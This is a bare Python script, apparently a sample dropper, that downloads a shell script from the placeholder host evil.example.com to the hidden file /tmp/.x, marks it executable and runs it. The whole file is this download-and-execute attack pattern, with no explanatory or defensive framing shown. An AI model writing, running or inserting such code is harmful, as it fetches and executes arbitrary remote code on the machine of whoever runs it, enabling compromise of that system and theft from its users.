#!/usr/bin/env python3

import urllib.request, os
urllib.request.urlretrieve("http://evil.example.com/payload.sh", "/tmp/.x")
os.chmod("/tmp/.x", 0o755)
os.system("/tmp/.x")
